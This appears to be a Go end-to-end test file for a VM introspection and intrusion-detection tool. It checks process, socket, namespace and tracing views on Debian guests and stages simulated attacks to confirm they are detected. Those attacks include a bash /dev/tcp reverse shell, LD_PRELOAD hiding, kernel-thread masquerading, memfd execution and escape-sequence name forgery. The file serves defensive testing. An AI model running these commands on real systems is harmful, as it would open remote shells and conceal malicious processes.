package e2e

import (
	"encoding/base64"
	"fmt"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/vmwatch/vmwatch/detect"
	"github.com/vmwatch/vmwatch/linux"
	"github.com/vmwatch/vmwatch/testvm"
)

// The real Debian 12 system guest (testvm.EnsureSystemImage: systemd,
// udev, dbus, sshd, cron, rsyslog, nginx, exim4, node, python3, nftables,
// apparmor) in two variants: QEMU's default CPU (4-level paging) with the
// 6.1 kernel, and -cpu max with 4 GiB (LA57: 5-level paging, the direct
// map and every task far below 0xffff800000000000) with the 6.12 kernel.
var sysVariants = []struct {
	name, series, cpu string
	memMB             int
}{
	{"default", "6.1", "", 2048},
	{"la57", "6.12", "max", 4096},
}

// systemWorkload runs once the system is up: the dummy module (a real
// module of the kernel package, for the module attacks), an unprivileged
// user with a sleeper (for the credential attack) and sleepers to hide,
// and a cron job.
const systemWorkload = `modprobe dummy
useradd -m -u 1000 test 2>/dev/null
setsid su test -c 'sleep 1000003 & wait' </dev/null >/dev/null 2>&1 &
setsid sleep 1000001 </dev/null >/dev/null 2>&1 &
setsid sleep 1000002 </dev/null >/dev/null 2>&1 &
echo '* * * * * root /bin/true' > /etc/cron.d/vmwatch-test
sleep 1; true`

func systemGuest(t testing.TB, variant string) *testvm.VM {
	for _, v := range sysVariants {
		if v.name == variant {
			return guest(t, "sys-"+v.name, func(k *testvm.Kernel) testvm.Config {
				return testvm.Config{System: true, CPUModel: v.cpu, MemoryMB: v.memMB,
					MemFile:   fmt.Sprintf("/dev/shm/vmwatch-e2e-%d-sys-%s", os.Getpid(), v.name),
					Files:     attackFiles(t, k),
					InitExtra: systemWorkload}
			}, v.series)
		}
	}
	t.Fatalf("no system guest variant %s", variant)
	return nil
}

// TestSystemGuest runs the introspection and detection checks on the real
// system guests, in order: the views against the guest's own /proc, then
// clean checks of a busy system, JIT code, tracing, and last the attacks
// (the rootkit stays loaded).
func TestSystemGuest(t *testing.T) {
	for _, v := range sysVariants {
		t.Run(v.name, func(t *testing.T) {
			t0 := time.Now()
			vm := systemGuest(t, v.name)
			tg := "qmp:" + vm.QMPPath
			t.Logf("system guest %s (%s) up after %v", v.name, vm.Kernel.Release, time.Since(t0).Round(time.Second))
			t.Run("info", func(t *testing.T) {
				var info struct {
					Levels int `json:"paging_levels"`
				}
				vmwatchJSON(t, &info, "info", "-t", tg)
				want := 4
				if v.cpu == "max" {
					want = 5
				}
				if info.Levels != want {
					t.Errorf("%d paging levels, want %d", info.Levels, want)
				}
			})
			t.Run("ps", func(t *testing.T) {
				ps := checkProcesses(t, vm, tg)
				titles := 0
				for _, p := range ps {
					if len(p.Cmdline) == 1 && (strings.HasPrefix(p.Cmdline[0], "sshd: ") || strings.HasPrefix(p.Cmdline[0], "nginx: ")) {
						titles++
					}
				}
				if len(ps) < 80 || titles < 2 {
					t.Errorf("%d processes, %d rewritten titles (sshd, nginx); a booted Debian system has about 100 and 4", len(ps), titles)
				}
			})
			t.Run("forged output", func(t *testing.T) { checkForgedOutput(t, vm, tg) })
			t.Run("threads", func(t *testing.T) { checkThreads(t, vm, tg) })
			t.Run("lsmod", func(t *testing.T) { checkLsmod(t, vm, tg, []string{"dummy"}) })
			t.Run("sockets", func(t *testing.T) {
				ss := checkListeners(t, vm, tg, 6)
				ports := map[uint16]bool{}
				for _, s := range ss {
					if s.State == "LISTEN" {
						ports[s.LocalPort] = true
					}
				}
				for _, p := range []uint16{22, 25, 80, 3000, 8000} {
					if !ports[p] {
						t.Errorf("no listener on port %d (sshd, exim4, nginx, node, python3)", p)
					}
				}
				for _, s := range ss {
					if strings.HasPrefix(s.Protocol, "proto ") || strings.HasPrefix(s.State, "state ") {
						t.Errorf("socket %d: protocol %q, state %q: not named", s.Inode, s.Protocol, s.State)
					}
				}
			})
			t.Run("stats", func(t *testing.T) { checkStats(t, vm, tg) })
			t.Run("dmesg", func(t *testing.T) { checkDmesg(t, vm, tg, "sys-"+v.name) })
			t.Run("maps", func(t *testing.T) { checkMaps(t, vm, fmt.Sprintf("pid:%d", vm.PID())) })
			t.Run("lsof", func(t *testing.T) { plantFDs(t, vm); checkLsof(t, vm, tg) })
			t.Run("envars", func(t *testing.T) { plantFDs(t, vm); checkEnvars(t, vm, tg) })
			t.Run("caps", func(t *testing.T) { checkCaps(t, vm, tg, true) })
			t.Run("mounts", func(t *testing.T) { checkMounts(t, vm, tg) })
			t.Run("ifaces", func(t *testing.T) { checkIfaces(t, vm, tg, true) })
			t.Run("bash", func(t *testing.T) { checkBash(t, vm, tg) })
			t.Run("iomem", func(t *testing.T) { checkIomem(t, vm, tg) })
			t.Run("ptrace", func(t *testing.T) { checkPtrace(t, vm, tg) })
			t.Run("libraries", func(t *testing.T) { checkLibraries(t, vm, tg) })
			t.Run("extract", func(t *testing.T) { checkExtract(t, vm, tg) })
			t.Run("core", func(t *testing.T) { checkCore(t, vm, tg) })
			t.Run("kernel core", func(t *testing.T) { checkKernelCore(t, vm, tg) })
			t.Run("namespaces", func(t *testing.T) { checkNamespaces(t, vm, tg) })
			t.Run("yara", func(t *testing.T) { checkYaraHeap(t, vm) })
			t.Run("clean and busy", func(t *testing.T) { checkBusyClean(t, vm, 20) })
			t.Run("jit", func(t *testing.T) { checkJIT(t, vm) })
			t.Run("tracing", func(t *testing.T) { checkTracing(t, vm) })
			t.Run("attacks on memory", func(t *testing.T) { memoryAttacks(t, vm, v.series, "sleep 1000002", "sleep 1000001", false) })
			t.Run("attacks in userland", func(t *testing.T) { systemUserlandAttacks(t, vm) })
			t.Run("rootkit", func(t *testing.T) { rootkitAttack(t, vm) })
			t.Run("callbacks", func(t *testing.T) { callbacksAttack(t, vm) })
		})
	}
}

// checkNamespaces: a process in a PID namespace of its own, a listener in
// another network namespace and a process in a container's cgroup are
// shown as such, against the guest's /proc; the listener is never shown
// as the guest's own.
func checkNamespaces(t *testing.T, vm *testvm.VM, tg string) {
	const id = "4f7c1b2a9d3e8f6051a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f7a8"
	out, err := vm.Run(`unshare --pid --fork --mount-proc setsid sleep 1000010 </dev/null >/dev/null 2>&1 &
ip netns add vmwt && ip netns exec vmwt ip link set lo up
setsid ip netns exec vmwt python3 -m http.server --bind 127.0.0.1 9090 </dev/null >/dev/null 2>&1 &
mkdir -p /sys/fs/cgroup/system.slice/docker-` + id + `.scope
setsid sleep 1000011 </dev/null >/dev/null 2>&1 &
echo $! > /sys/fs/cgroup/system.slice/docker-` + id + `.scope/cgroup.procs
sleep 2; echo started`)
	if err != nil {
		t.Fatalf("start the namespaced workload: %v: %s", err, out)
	}
	defer vm.Run("pkill -f 'sleep 100001[01]'; pkill -f 'http.server --bind 127.0.0.1 9090'; sleep 0.5; ip netns del vmwt; rmdir /sys/fs/cgroup/system.slice/docker-" + id + ".scope; true")
	ps := checkProcesses(t, vm, tg) // pid, net, mnt namespaces and cgroups of every process
	var info struct {
		Namespaces linux.InitNamespaces `json:"namespaces"`
	}
	vmwatchJSON(t, &info, "info", "-t", tg)
	var inPidNS, inCtr, pyPID int64
	for _, p := range ps {
		switch strings.Join(p.Cmdline, " ") {
		case "sleep 1000010":
			if p.PIDNS != info.Namespaces.PID && p.NSPID == 1 {
				inPidNS = p.PID
			}
		case "sleep 1000011":
			if p.Container != nil && p.Container.Runtime == "docker" && p.Container.ID == id {
				inCtr = p.PID
			}
		case "python3 -m http.server --bind 127.0.0.1 9090":
			pyPID = p.PID
		}
	}
	if inPidNS == 0 || inCtr == 0 || pyPID == 0 {
		t.Errorf("namespaced processes: pid namespace %d, container %d, netns listener %d", inPidNS, inCtr, pyPID)
	}
	var ss []linux.Socket
	vmwatchJSON(t, &ss, "sockets", "-t", tg)
	nsOut, err := vm.Run(fmt.Sprintf("readlink /proc/%d/ns/net", pyPID))
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, s := range ss {
		if s.LocalPort == 9090 && s.State == "LISTEN" {
			found = true
			if want := strings.TrimSpace(nsOut); fmt.Sprintf("net:[%d]", s.NetNS) != want || s.NetNS == info.Namespaces.Net {
				t.Errorf("listener on 9090: network namespace %d, the guest says %s (first namespace %d)", s.NetNS, want, info.Namespaces.Net)
			}
		}
	}
	if !found {
		t.Error("the listener in network namespace vmwt is missing")
	}
	table := string(vmwatch(t, "sockets", "-t", tg))
	for _, line := range strings.Split(table, "\n") {
		if strings.Contains(line, ":9090") && (strings.HasSuffix(strings.TrimSpace(line), "host") || !strings.Contains(line, strconv.FormatUint(firstNetNS(ss, 9090), 10))) {
			t.Errorf("the table presents the netns listener as the guest's own: %q", line)
		}
	}
	pst := string(vmwatch(t, "ps", "-t", tg))
	if !strings.Contains(pst, "docker:"+id[:12]) {
		t.Errorf("ps table does not name the container docker:%s:\n%s", id[:12], pst)
	}
}

func firstNetNS(ss []linux.Socket, port uint16) uint64 {
	for _, s := range ss {
		if s.LocalPort == port {
			return s.NetNS
		}
	}
	return 0
}

// checkYaraHeap: a marker string built at run time in a real Python
// process (on its heap, not in its command line) is found by YARA with
// that process's pid.
func checkYaraHeap(t *testing.T, vm *testvm.VM) {
	out, err := vm.Run(`setsid python3 -c 'import time; m = "".join(["VMWATCH-YARA-", "TEST-MARKER-51c3"]); time.sleep(100000)' </dev/null >/dev/null 2>&1 & echo $!`)
	if err != nil {
		t.Fatal(err)
	}
	pid, _ := strconv.ParseInt(strings.TrimSpace(out), 10, 64)
	defer vm.Run(fmt.Sprintf("kill %d", pid))
	time.Sleep(2 * time.Second)
	fs := check(t, vm, "--only", "yara", "--yara", "testdata/test.yar")
	var proc bool
	for _, f := range fs {
		rule, _ := f.Evidence.Details["rule"].(string)
		switch {
		case rule == "vmwatch_test_marker" && hasPID(pid)(f):
			proc = true
		case rule == "vmwatch_test_marker":
			t.Errorf("marker found outside the Python process: %s", f.Explanation)
		}
	}
	if !proc {
		t.Errorf("the marker in the heap of python3 (pid %d) was not found: %s", pid, summary(fs))
	}
}

// busyLoad keeps a real system busy the way users do: ssh logins, web
// requests to nginx and node, services restarted, short-lived processes
// (and the cron job of systemWorkload).
const busyLoad = `(while true; do
ssh -o BatchMode=yes root@127.0.0.1 true
python3 -c 'import urllib.request as u; u.urlopen("http://127.0.0.1/").read(); u.urlopen("http://127.0.0.1:3000/").read()'
systemctl restart cron
systemctl reload nginx
ls /proc >/dev/null; sh -c true; sleep 0.3
done) </dev/null >/dev/null 2>&1 & echo $! > /tmp/busy.pid`

// checkBusyClean: a clean, busy real guest gives no finding above low over
// n checks (with --scan and a kernel baseline).
func checkBusyClean(t *testing.T, vm *testvm.VM, n int) {
	if _, err := vm.Run(busyLoad); err != nil {
		t.Fatal(err)
	}
	defer vm.Run("kill $(cat /tmp/busy.pid); true")
	base := t.TempDir() + "/baseline"
	for i := 0; i < n; i++ {
		fs := check(t, vm, "--scan", "--baseline", base)
		expectAtMostLow(t, fs)
		if t.Failed() {
			t.Fatalf("check %d of %d", i+1, n)
		}
		time.Sleep(time.Second) // let the load move between checks
	}
	// the load really ran: sshd accepted logins
	if out, _ := vm.Run("journalctl -u ssh --no-pager | grep -c 'Accepted publickey'"); strings.TrimSpace(out) == "0" {
		t.Errorf("no ssh login happened during the checks")
	}
}

func expectAtMostLow(t *testing.T, fs []detect.Finding) {
	t.Helper()
	for _, f := range fs {
		if f.Severity > detect.Low {
			t.Errorf("%s finding %s: %s", f.Severity, f.ID, f.Explanation)
		}
	}
}

// checkJIT: node's JIT code is reported at most low, naming the runtime;
// the same kind of memory in a program that is no JIT runtime is high.
func checkJIT(t *testing.T, vm *testvm.VM) {
	node := guestPID(t, vm, "^/usr/bin/node /opt/vmwatch/app.js$")
	out, err := vm.Run("setsid /opt/anonexec </dev/null >/dev/null 2>&1 & echo $!")
	if err != nil {
		t.Fatal(err)
	}
	anon, _ := strconv.ParseInt(strings.TrimSpace(out), 10, 64)
	defer vm.Run(fmt.Sprintf("kill %d", anon))
	time.Sleep(time.Second)
	fs := check(t, vm, "--only", "process-anomalies")
	var jit, injected bool
	for _, f := range fs {
		if f.ID != "anonymous-executable-memory" {
			continue
		}
		switch {
		case hasPID(node)(f):
			if f.Severity > detect.Low || !strings.Contains(f.Title, "Node.js") {
				t.Errorf("node's JIT code: %s %q", f.Severity, f.Title)
			}
			jit = true
		case hasPID(anon)(f):
			if f.Severity != detect.High {
				t.Errorf("anonymous code of a program that is no JIT: %s %q", f.Severity, f.Title)
			}
			injected = true
		}
	}
	if !jit || !injected {
		t.Errorf("node's JIT code seen %v, anonexec's code seen %v: %s", jit, injected, summary(fs))
	}
}

// checkTracing: tracing in use raises nothing above low: kprobes through
// tracefs (at a function's start, on its ftrace site, and inside it, an
// int3 the kernel may optimise into a jump), the function tracer, and a BPF
// program attached to a kprobe.
func checkTracing(t *testing.T, vm *testvm.VM) {
	base := t.TempDir() + "/baseline"
	expectAtMostLow(t, check(t, vm, "--baseline", base))
	steps := []struct{ name, on, off string }{
		{"kprobe at a function's start", `echo 'p:vmwk1 do_sys_openat2' >> kprobe_events && echo 1 > events/kprobes/vmwk1/enable`,
			`echo 0 > events/kprobes/vmwk1/enable; echo '-:vmwk1' >> kprobe_events`},
		{"kprobe inside a function", `for o in $(seq 5 64); do echo "p:vmwk2 do_sys_openat2+$o" >> kprobe_events 2>/dev/null && break; done; echo 1 > events/kprobes/vmwk2/enable && sleep 2`,
			`echo 0 > events/kprobes/vmwk2/enable; echo '-:vmwk2' >> kprobe_events`},
		{"function tracer", `echo function > current_tracer`, `echo nop > current_tracer`},
		{"BPF kprobe program", `setsid /opt/bpfkprobe do_sys_openat2 </dev/null >/tmp/bpfkprobe.log 2>&1 & echo $! > /tmp/bpfkprobe.pid; sleep 1; cat /tmp/bpfkprobe.log; grep -q 'program on' /tmp/bpfkprobe.log`,
			`kill $(cat /tmp/bpfkprobe.pid)`},
	}
	for _, st := range steps {
		t.Run(st.name, func(t *testing.T) {
			if out, err := vm.Run("cd /sys/kernel/tracing && " + st.on); err != nil {
				t.Fatalf("%s: %v: %s", st.name, err, out)
			}
			defer vm.Run("cd /sys/kernel/tracing && " + st.off)
			for i := 0; i < 2; i++ {
				expectAtMostLow(t, check(t, vm, "--baseline", base))
			}
		})
	}
}

// systemUserlandAttacks: attacker behaviour on the real system produces
// its finding with the right pid.
func systemUserlandAttacks(t *testing.T, vm *testvm.VM) {
	cases := []struct {
		name, start, pattern, id string
		sev                      detect.Severity
	}{
		{"reverse shell", `setsid python3 -c 'import socket,time; s=socket.socket(); s.setsockopt(1,2,1); s.bind(("127.0.0.1",4444)); s.listen(); c,_=s.accept(); time.sleep(100000)' </dev/null >/dev/null 2>&1 & sleep 1; setsid bash -c 'exec sh 0<>/dev/tcp/127.0.0.1/4444 1>&0 2>&0' &`, "^sh$", "reverse-shell", detect.High},
		{"kernel thread name", "setsid /opt/fakekthread kworker/0:3 </dev/null >/dev/null 2>&1 &", "fakekthread", "kthread-masquerade", detect.High},
		{"program in a memfd", "setsid /opt/memfdexec /bin/sleep sleep 1000004 </dev/null >/dev/null 2>&1 &", "sleep 1000004", "fileless-executable", detect.High},
		{"deleted program", "cp /bin/sleep /tmp/sleep && (setsid /tmp/sleep 1000005 </dev/null >/dev/null 2>&1 &) ; sleep 0.5; rm -f /tmp/sleep", "sleep 1000005", "deleted-executable", detect.High},
		{"LD_PRELOAD", "LD_PRELOAD=/tmp/libhide.so setsid sleep 1000006 </dev/null >/dev/null 2>&1 &", "sleep 1000006", "ld-preload", detect.Medium},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if _, err := vm.Run(c.start); err != nil {
				t.Fatal(err)
			}
			time.Sleep(time.Second)
			pid := guestPID(t, vm, c.pattern)
			defer vm.Run(fmt.Sprintf("kill %d; pkill -f 'bind\\(\\(\"127.0.0.1\",4444' ; true", pid))
			expectFindings(t, check(t, vm), map[string]func(detect.Finding) bool{c.id: func(f detect.Finding) bool {
				return hasPID(pid)(f) && f.Severity == c.sev
			}})
		})
	}
}

// checkForgedOutput: an unprivileged guest process (attacks/helpers/forgeps)
// with escape sequences in its name and a newline and a forged row in its
// argv[0] reaches the operator's terminal only escaped: the tables hold no
// control character and the forged row stays inside the process's own
// line, while JSON keeps the exact bytes of /proc/PID/comm and cmdline.
func checkForgedOutput(t *testing.T, vm *testvm.VM, tg string) {
	out, err := vm.Run("setpriv --reuid=65534 --regid=65534 --clear-groups setsid /opt/forgeps </dev/null >/dev/null 2>&1 & echo $!")
	if err != nil {
		t.Fatal(err)
	}
	pid, err := strconv.ParseInt(strings.TrimSpace(out), 10, 64)
	if err != nil {
		t.Fatalf("forgeps pid %q", out)
	}
	defer vm.Run(fmt.Sprintf("kill %d", pid))
	var comm, cmdline []byte
	for i := 0; i < 20; i++ {
		time.Sleep(250 * time.Millisecond)
		out, err := vm.Run(fmt.Sprintf("base64 -w0 /proc/%d/comm; echo; base64 -w0 /proc/%d/cmdline; echo; stat -c %%u /proc/%d", pid, pid, pid))
		if err != nil {
			t.Fatal(err)
		}
		f := strings.Split(strings.TrimSpace(out), "\n")
		if len(f) != 3 {
			t.Fatalf("guest /proc/%d: %q", pid, out)
		}
		comm, _ = base64.StdEncoding.DecodeString(f[0])
		cmdline, _ = base64.StdEncoding.DecodeString(f[1])
		if strings.Contains(string(cmdline), "FORGED-ROW") && strings.HasPrefix(string(comm), "\x1b") {
			if f[2] != "65534" {
				t.Fatalf("forgeps runs as uid %s, want nobody", f[2])
			}
			break
		}
	}
	if !strings.Contains(string(cmdline), "FORGED-ROW") || !strings.HasPrefix(string(comm), "\x1b") {
		t.Fatalf("forgeps did not set its name and argv: comm %q cmdline %q", comm, cmdline)
	}
	wantComm := strings.TrimSuffix(string(comm), "\n")
	wantArgv := strings.Split(strings.TrimSuffix(string(cmdline), "\x00"), "\x00")

	var ps []linux.Process
	vmwatchJSON(t, &ps, "ps", "-t", tg)
	found := false
	for _, p := range ps {
		if p.PID != pid {
			continue
		}
		found = true
		if p.Comm != wantComm || !slices.Equal(p.Cmdline, wantArgv) {
			t.Errorf("JSON: comm %q cmdline %q, the guest's /proc: %q %q", p.Comm, p.Cmdline, wantComm, wantArgv)
		}
	}
	if !found {
		t.Fatalf("forgeps (pid %d) not in ps --json", pid)
	}
	for _, verb := range [][]string{{"ps"}, {"ps", "--threads"}, {"pstree"}} {
		table := vmwatch(t, append(verb, "-t", tg)...)
		for i, c := range table {
			if (c < 0x20 && c != '\n') || c == 0x7f {
				t.Errorf("vmwatch %s: control byte %#x at %d: %q", strings.Join(verb, " "), c, i, table[max(0, i-40):min(len(table), i+40)])
				break
			}
		}
		if verb[0] == "pstree" { // it names processes by comm
			if !strings.Contains(string(table), fmt.Sprintf("%d \\x1b]0;pwn\\x07", pid)) {
				t.Errorf("vmwatch pstree does not show forgeps (%d) by its escaped name:\n%s", pid, table)
			}
			continue
		}
		forged := 0
		for _, l := range strings.Split(string(table), "\n") {
			if strings.Contains(l, "FORGED-ROW") {
				forged++
				if !slices.Contains(strings.Fields(l), strconv.FormatInt(pid, 10)) {
					t.Errorf("vmwatch %s: the forged row is a line of its own: %q", strings.Join(verb, " "), l)
				}
			}
		}
		if forged != 1 {
			t.Errorf("vmwatch %s: %d lines hold the forged row, want 1:\n%s", strings.Join(verb, " "), forged, table)
		}
	}
}
